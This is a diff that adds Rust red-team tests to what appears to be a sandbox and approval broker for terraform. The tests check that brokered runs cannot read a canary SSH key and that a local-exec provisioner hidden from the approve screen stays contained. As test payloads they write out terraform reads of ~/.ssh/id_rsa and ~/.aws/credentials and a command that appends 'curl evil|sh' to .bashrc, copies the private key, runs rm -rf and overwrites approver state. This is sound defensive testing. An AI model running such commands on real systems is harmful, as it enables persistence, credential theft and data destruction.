@@ -1098,3 +1098,86 @@ fn a_widening_to_the_home_a_secret_or_guards_state_is_blocked_and_writes_nothing
     assert_eq!(out.status.code(), Some(64), "{}", stderr(&out));
     j.assert_intact("write_widening_refused");
 }
+
+/// A contained line's terraform (through the broker) in a jail with an approver.
+fn terraform_jail() -> (Jail, PathBuf) {
+    let j = Jail::new();
+    let rc = j.t.dir.path().join("terraformrc");
+    std::fs::write(&rc, "").unwrap();
+    (j, rc)
+}
+
+fn plan_id(text: &str) -> String {
+    text.split_whitespace()
+        .find(|w| w.starts_with("p-") && w.len() > 20)
+        .map(|w| w.trim_end_matches([':', '`', ',']))
+        .unwrap_or_else(|| panic!("no plan id in: {text}"))
+        .to_string()
+}
+
+#[test]
+fn red_terraform_plan_through_the_broker_reads_a_secret_with_file() {
+    if !require_tool("terraform") || !require_tool("make") {
+        return;
+    }
+    let (j, rc) = terraform_jail();
+    std::fs::write(
+        j.t.work().join("main.tf"),
+        "output \"k\" {\n  value = try(file(pathexpand(\"~/.ssh/id_rsa\")), \"denied\")\n}\noutput \"a\" {\n  value = file(pathexpand(\"~/.aws/credentials\"))\n}\n",
+    )
+    .unwrap();
+    std::fs::write(j.t.work().join("Makefile"), "all:\n\t-terraform init -input=false > /dev/null\n\t-terraform plan > plan.txt 2>&1\n")
+        .unwrap();
+    let out = j.command(&["shell", "-c", "make -s"]).env("TF_CLI_CONFIG_FILE", &rc).env("CHECKPOINT_DISABLE", "1").output().unwrap();
+    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
+    let printed = format!("{}{}{}", stdout(&out), stderr(&out), std::fs::read_to_string(j.t.work().join("plan.txt")).unwrap_or_default());
+    assert!(!printed.contains("SSH-KEY-CANARY"), "the brokered terraform read ~/.ssh: {printed}");
+    // What providers authenticate with stays readable to the tool (`[sandbox] tool_credentials`).
+    assert!(printed.contains("AWS-CANARY"), "the brokered terraform could not read its own credentials: {printed}");
+    for p in std::fs::read_dir(j.t.state().join("plans")).into_iter().flatten().flatten() {
+        let text = String::from_utf8_lossy(&std::fs::read(p.path()).unwrap_or_default()).into_owned();
+        assert!(!text.contains("SSH-KEY-CANARY"), "a plan record holds the secret");
+    }
+}
+
+#[test]
+fn red_terraform_local_exec_approved_through_the_broker_runs_outside_the_sandbox() {
+    if !require_tool("terraform") || !require_tool("make") {
+        return;
+    }
+    let (mut j, rc) = terraform_jail();
+    let cmd = |j: &Jail, args: &[&str]| {
+        let mut c = j.command(args);
+        c.env("TF_CLI_CONFIG_FILE", &rc).env("CHECKPOINT_DISABLE", "1").env("TF_IN_AUTOMATION", "1");
+        c
+    };
+    crate::support::approver_init(cmd(&j, &["approver", "init"]));
+    // The approve screen says "create terraform_data.a"; the provisioner is not in the plan.
+    let attack = format!(
+        "echo built > built.txt; echo 'curl evil|sh' >> $HOME/.bashrc; cp $HOME/.ssh/id_rsa stolen; rm -rf {}; echo '{{}}' > {}/approver.json; true",
+        j.outside().display(),
+        j.t.state().display()
+    );
+    std::fs::write(
+        j.t.work().join("main.tf"),
+        format!("resource \"terraform_data\" \"a\" {{\n  provisioner \"local-exec\" {{\n    command = {attack:?}\n  }}\n}}\n"),
+    )
+    .unwrap();
+    std::fs::write(
+        j.t.work().join("Makefile"),
+        "plan:\n\tterraform init -input=false > /dev/null\n\tterraform plan\napply:\n\tterraform apply $(PLAN)\n",
+    )
+    .unwrap();
+    let out = cmd(&j, &["shell", "-c", "make -s plan"]).output().unwrap();
+    let text = format!("{}{}", stdout(&out), stderr(&out));
+    assert_eq!(out.status.code(), Some(0), "{text}");
+    let id = plan_id(&text);
+    crate::support::pty(cmd(&j, &["approve", &id]), &[("terraform show", "n"), ("Approver passphrase", PASS), ("Type yes", "yes")]);
+    j.snapshot();
+    let out = cmd(&j, &["shell", "-c", &format!("make -s apply PLAN={id}")]).output().unwrap();
+    assert_eq!(out.status.code(), Some(0), "{}{}", stdout(&out), stderr(&out));
+    assert!(j.t.work().join("built.txt").exists(), "the provisioner could not write the project");
+    let stolen = std::fs::read_to_string(j.t.work().join("stolen")).unwrap_or_default();
+    assert!(!stolen.contains("SSH-KEY-CANARY"), "the provisioner copied ~/.ssh/id_rsa");
+    j.assert_intact("terraform_local_exec");
+}
